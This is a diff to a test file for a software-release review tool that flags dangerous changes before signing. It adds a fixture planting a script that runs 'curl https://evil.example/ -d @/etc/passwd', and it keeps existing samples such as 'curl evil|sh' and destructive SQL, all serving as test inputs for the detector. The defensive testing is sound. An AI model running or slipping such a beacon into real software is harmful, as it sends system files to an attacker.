@@ -21,8 +21,8 @@ from ncen_updater.publisher.feed.feed import Feed
 from ncen_updater.publisher.release_flow import KeyRing, make_feed, publish_release
 from ncen_updater.publisher.review.page import page_of
 from ncen_updater.publisher.review.review import Review, review
-from ncen_updater.publisher.review.words import annex_lines, words_of
-from ncen_updater.publisher.signing.draft import draft_keys, draft_releases
+from ncen_updater.publisher.review.words import annex_lines, marked, words_of
+from ncen_updater.publisher.signing.draft import draft_first, draft_keys, draft_releases
 from ncen_updater.publisher.signing.event import SigningEvent
 from ncen_updater.publisher.signing.event_files import PAPERS
 from tests.publisher.feeds import ceremony_of
@@ -129,6 +129,13 @@ def program(desk: Desk) -> SigningEvent:
     return desk.event(release)
 
 
+def phones_home(desk: Desk) -> SigningEvent:
+    release = desk.next()
+    (release / "bin/beacon").write_text("#!/bin/sh\ncurl https://evil.example/ -d @/etc/passwd\n")
+    (release / "bin/beacon").chmod(0o755)
+    return desk.event(release)
+
+
 def wave(desk: Desk) -> SigningEvent:
     return desk.event(desk.next(), [Wave(opens=datetime(2020, 1, 1, tzinfo=UTC), percent=100)])
 
@@ -151,7 +158,7 @@ DANGERS: dict[str, tuple[Callable[[Desk], SigningEvent], str]] = {
         r"line 4, puts a program into the database, or runs one: CREATE FUNCTION",
     ),
     "migrator": (migrator, r"brings a program of its own .* curl evil\|sh"),
-    "file of the program": (program, r"other programs than before: bin/app"),
+    "file that phones home": (phones_home, r"programs that were not there before: bin/beacon"),
     "table made of a function": (
         sql("CREATE TABLE gone AS SELECT lo_unlink(17)"),
         r"line 4, runs a function: CREATE TABLE gone AS SELECT",
@@ -185,6 +192,72 @@ def test_a_harmless_release_is_marked_nowhere(desk: Desk) -> None:
     ]
 
 
+def test_another_program_in_the_place_of_one_is_usual(desk: Desk) -> None:
+    page = review(program(desk), whole=True)
+    assert [text.render() for text in page.grave] == []
+    assert [text.render() for text in page.warnings] == [
+        "WARNING: other programs than before: bin/app"
+    ]
+
+
+@pytest.mark.parametrize(
+    ("content", "mode", "seen"),
+    [
+        (b"words\n", 0o755, "always"),
+        (b"words\n", 0o644, "never"),
+        (b"#!/bin/sh\n", 0o644, "with the files"),
+        (b"\x7fELF\x02\x01", 0o644, "with the files"),
+    ],
+)
+@pytest.mark.parametrize("was", ["nothing", "words"])
+def test_what_becomes_a_program_is_grave(
+    desk: Desk, was: str, content: bytes, mode: int, seen: str
+) -> None:
+    """New, or no program until now: by its mode, and by its content where that is at hand."""
+    release = desk.next()
+    path = release / ("bin/new" if was == "nothing" else "data/words.txt")
+    path.parent.mkdir(exist_ok=True)
+    path.write_bytes(content)
+    path.chmod(mode)
+    event = desk.event(release)
+    for places in ((), (desk.place / "staging", desk.place / "feed")):
+        page = review(event, *places, whole=True)
+        expected = seen == "always" or (seen == "with the files" and bool(places))
+        name = str(path.relative_to(release))
+        found = [text.render() for text in page.grave]
+        words = [f"WARNING: programs that were not there before: {name}"]
+        assert found == (words if expected else []), places
+
+
+def test_marks_fit_into_a_terminal(desk: Desk, capsys: pytest.CaptureFixture[str]) -> None:
+    up = HARMLESS + f"DELETE FROM cases WHERE note = '{'word ' * 40}';"
+    event = desk.event(desk.next(up=up))
+    root = desk.place / "feed/metadata/1.root.json"
+    assert run(["show", str(event.directory), "--root", str(root)]) == 0
+    lines = capsys.readouterr().out.splitlines()
+    marks = lines[: lines.index("ncen 3.4.0, after 3.3.0") - 1]
+    assert max(len(line) for line in marks) <= 80
+    assert "  WARNING: m/002.up.sql, line 4, deletes records: DELETE FROM cases WHERE note" in marks
+    # The SQL itself is as it is.
+    assert [line for line in lines if line.startswith("    4 > DELETE") and len(line) > 200]
+
+
+def test_a_key_is_told_whole_once(desk: Desk) -> None:
+    """The same officers sign four lists: one fingerprint each is what is compared."""
+    held = ceremony_of(
+        desk.keys.officers, {name: held[0] for name, held in desk.keys.online.items()}
+    )
+    draft = draft_first(held, NOW)
+    event = SigningEvent.create(desk.place / "event", draft.title, draft.roles, None)
+    lines = said(review(event))
+    told = [line for line in lines if re.search(r"(?:[0-9a-f]{8} ){7}[0-9a-f]{8}\)", line)]
+    marks = [re.findall(r"[0-9a-f]{8}", line)[0] for line in told]
+    assert len(marks) == len(set(marks)) == len(desk.keys.officers) + len(desk.keys.online)
+    again = [line for line in lines if "the same key, " in line]
+    assert len(again) > len(told) / 2
+    assert {re.findall(r"the same key, ([0-9a-f]{8})", line)[0] for line in again} <= set(marks)
+
+
 @pytest.mark.parametrize("danger", DANGERS)
 def test_each_danger_is_marked(desk: Desk, danger: str) -> None:
     make, expected = DANGERS[danger]
@@ -192,6 +265,9 @@ def test_each_danger_is_marked(desk: Desk, danger: str) -> None:
     found = [line for line in warnings(page) if re.search(expected, line)]
     assert len(found) == 1, warnings(page)
     assert found[0].startswith("WARNING")
+    assert found[0] in [text.render() for text in page.grave], "not among the grave"
+    (_, first), *_ = marked(page)
+    assert list(first) == list(page.grave), "the grave do not stand first"
     shown = "\n".join(said(page))
     assert found[0] in shown
     html = page_of(page).decode()
